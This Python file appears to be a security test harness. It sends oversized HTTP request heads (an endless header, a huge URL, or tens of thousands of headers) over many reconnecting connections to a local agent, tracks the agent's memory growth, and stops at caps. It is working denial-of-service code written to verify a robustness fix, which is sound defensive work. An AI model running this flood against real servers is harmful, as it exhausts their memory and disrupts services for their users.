"""feed_attack.py bighead: oversized request heads and targets that never end."""
import selectors
import socket
import time

from feed_attack_http import HOST, RESET_ERRORS, now, rss_kb

class Slot:
    pass


def bighead_stream(kind, port, mb):
    """(prefix, filler_bytes, suffix) of one oversized request."""
    # The header line and the request line never end: that is the attack (the bytes keep
    # coming, so an idle cut never fires), and it keeps an unfixed agent from parsing a
    # 200 MB line, which costs it several times that (a 50 MB URL took it to 730 MB).
    host = f"Host: {HOST}:{port}\r\n".encode()
    if kind == "header":
        return b"GET /api/v1/hosts HTTP/1.1\r\n" + host + b"X-A: ", mb << 20, b""
    if kind == "url":
        return b"GET /", mb << 20, b""
    many = b"".join(b"X-H%d: v\r\n" % i for i in range(70000))
    return b"GET /api/v1/hosts HTTP/1.1\r\n" + host + many, 0, b"\r\n"


def cmd_bighead(a):
    sel = selectors.DefaultSelector()
    block = memoryview(b"a" * (256 << 10))
    t0 = now()
    stats = {"connections": 0, "statuses": {}, "max_sent": 0, "total_sent": 0,
             "completed": 0, "stopped": ""}
    prefix, fill, suffix = bighead_stream(a.kind, a.port, a.mb)
    total_len = len(prefix) + fill + len(suffix)

    def open_slot(i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, a.port))
        s.setblocking(False)
        c = Slot()
        c.i, c.s, c.sent, c.resp, c.done_sending, c.t0 = i, s, 0, b"", False, now()
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
        stats["connections"] += 1
        return c

    def finish(c, outcome):
        if outcome == "reset" and not c.resp:
            try:  # an answer queued before the reset is still readable
                c.resp = c.s.recv(65536)
            except (OSError, BlockingIOError):
                pass
        sel.unregister(c.s)
        c.s.close()
        status = outcome
        if c.resp.startswith(b"HTTP/"):
            try:
                status = c.resp.split(b" ", 2)[1].decode()
            except IndexError:
                pass
            if outcome in ("answered-not-closed", "open-when-stopped"):
                status += "-kept-open"
        stats["statuses"][status] = stats["statuses"].get(status, 0) + 1
        stats["max_sent"] = max(stats["max_sent"], c.sent)
        stats["total_sent"] += c.sent
        if c.sent >= total_len:
            stats["completed"] += 1
        if now() - t0 < a.min_seconds and not stats["stopped"]:
            pending.append((now() + a.reopen_delay, c.i))

    pending = []  # (when, slot): a cut slot reconnects after --reopen-delay
    for i in range(a.conns):
        open_slot(i)
    print(f"attacking kind={a.kind} conns={a.conns} mb={a.mb}", flush=True)
    last_rss = 0
    peak_rss = rss_kb(a.pid)
    while sel.get_map() or pending:
        for when, i in [p for p in pending if p[0] <= now()]:
            pending.remove((when, i))
            open_slot(i)
        if now() - t0 > a.max_seconds:
            stats["stopped"] = f"max-seconds {a.max_seconds}"
        if now() - last_rss > 0.1:
            last_rss = now()
            r = rss_kb(a.pid)
            peak_rss = max(peak_rss, r)
            if a.pid and r > a.rss_cap_mb * 1024:
                stats["stopped"] = f"rss-cap {r // 1024} MB"
        if stats["stopped"]:
            for key in list(sel.get_map().values()):
                finish(key.data, "open-when-stopped")
            pending.clear()
            break
        if not sel.get_map():
            time.sleep(0.02)
            continue
        for key, ev in sel.select(timeout=0.1):
            c = key.data
            if ev & selectors.EVENT_READ:
                try:
                    chunk = c.s.recv(65536)
                except (BlockingIOError, InterruptedError):
                    chunk = None
                except RESET_ERRORS:
                    finish(c, "reset")
                    continue
                if chunk == b"":
                    finish(c, "closed")
                    continue
                if chunk:
                    c.resp += chunk
                    if b"\r\n\r\n" in c.resp and not getattr(c, "answered_at", None):
                        # answered: stop sending, give the server 2 s to close
                        if not c.done_sending:
                            sel.modify(c.s, selectors.EVENT_READ, c)
                        c.done_sending, c.answered_at = True, now()
                    continue
            if c.done_sending:
                continue
            if ev & selectors.EVENT_WRITE:
                try:
                    if c.sent < len(prefix):
                        n = c.s.send(prefix[c.sent:c.sent + (256 << 10)])
                    elif c.sent < len(prefix) + fill:
                        left = len(prefix) + fill - c.sent
                        n = c.s.send(block[:min(left, len(block))])
                    elif c.sent < total_len:
                        n = c.s.send(suffix[c.sent - len(prefix) - fill:])
                    else:
                        n = 0
                    c.sent += n
                    if c.sent >= total_len:
                        c.done_sending, c.sent_all_at = True, now()
                        sel.modify(c.s, selectors.EVENT_READ, c)
                except (BlockingIOError, InterruptedError):
                    pass
                except RESET_ERRORS:
                    finish(c, "reset")
        # a fully sent request the server never answers: give it 5 s
        for key in list(sel.get_map().values()):
            c = key.data
            if getattr(c, "answered_at", None):
                if now() - c.answered_at > 2:
                    finish(c, "answered-not-closed")
            elif getattr(c, "sent_all_at", None) and now() - c.sent_all_at > 5:
                finish(c, "sent-all-no-answer")
    sts = ",".join(f"{k}:{v}" for k, v in sorted(stats["statuses"].items()))
    print(f"bighead kind={a.kind} connections={stats['connections']} statuses={sts} "
          f"max_sent_mb={stats['max_sent'] / 1048576:.1f} total_sent_mb={stats['total_sent'] / 1048576:.1f} "
          f"completed={stats['completed']} seconds={now() - t0:.1f} peak_rss_kb={peak_rss} "
          f"stopped={stats['stopped'] or 'no'}")
